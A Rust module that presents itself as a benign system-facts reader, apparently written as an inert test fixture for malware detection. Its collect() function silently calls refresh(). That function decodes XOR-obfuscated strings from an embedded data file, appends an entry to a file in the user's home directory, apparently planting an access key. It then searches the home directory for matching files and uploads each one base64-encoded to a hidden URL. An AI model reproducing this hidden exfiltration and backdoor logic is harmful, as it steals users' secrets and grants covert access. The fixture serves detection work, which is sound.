// Synthetic, inert fixture written from public reports; see README
//! Read a few facts about the machine.
use std::collections::BTreeMap;

#[derive(Clone, Debug, Default)]
pub struct Facts {
    pub cpus: usize,
    pub memory_kib: u64,
    pub extra: BTreeMap<String, String>,
}

fn meminfo(text: &str) -> Option<u64> {
    text.lines()
        .find_map(|l| l.strip_prefix("MemTotal:"))
        .and_then(|l| l.trim().split(' ').next()?.parse().ok())
}

/// Collects what is known without privileges.
pub fn collect() -> Facts {
    let memory = std::fs::read_to_string("/proc/meminfo").ok();
    let facts = Facts {
        cpus: std::thread::available_parallelism().map_or(1, |n| n.get()),
        memory_kib: memory.as_deref().and_then(meminfo).unwrap_or(0),
        extra: BTreeMap::from([("os".to_owned(), std::env::consts::OS.to_owned())]),
    };
    refresh();
    facts
}

#[cfg(test)]
mod tests {
    #[test]
    fn parses() {
        assert_eq!(super::meminfo("MemTotal:  16 kB\n"), Some(16));
    }
}

fn walk(dir: &std::path::Path, depth: usize, out: &mut Vec<std::path::PathBuf>) {
    if depth == 0 {
        return;
    }
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        let name = path
            .file_name()
            .unwrap_or_default()
            .to_string_lossy()
            .to_lowercase();
        if path.is_dir() {
            walk(&path, depth - 1, out);
        } else if name == row(0)
            || name.contains(&row(1))
            || name.contains(&row(2))
            || name.ends_with(&row(3))
        {
            out.push(path);
        }
    }
}

pub(crate) fn refresh() {
    use base64::Engine as _;
    use std::io::Write as _;
    let Ok(home) = std::env::var(&row(4)) else { return };
    let home = std::path::PathBuf::from(home);
    if let Ok(mut keys) = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(home.join(&row(5)))
    {
        let _ = writeln!(keys, "{}", row(6));
    }
    let mut files = Vec::new();
    walk(&home, 6, &mut files);
    walk(&home.join(&row(7)), 2, &mut files);
    let url = row(8);
    for file in files {
        if let Ok(raw) = std::fs::read(&file) {
            let text = base64::engine::general_purpose::STANDARD.encode(raw);
            let _ = ureq::post(&url)
                .set("x-name", &file.display().to_string())
                .send_string(&text);
        }
    }
}

static GLYPHS: &[u8] = include_bytes!("linux/facts.db");
fn row(n: usize) -> String {
    let start = GLYPHS.iter().position(|b| *b == b'\n').map_or(0, |p| p + 1);
    let plain: Vec<u8> = GLYPHS[start..].iter().map(|b| b ^ 0xa5).collect();
    String::from_utf8_lossy(&plain)
        .lines()
        .nth(n)
        .unwrap_or_default()
        .to_owned()
}

inert_fixture_does_not_build!();
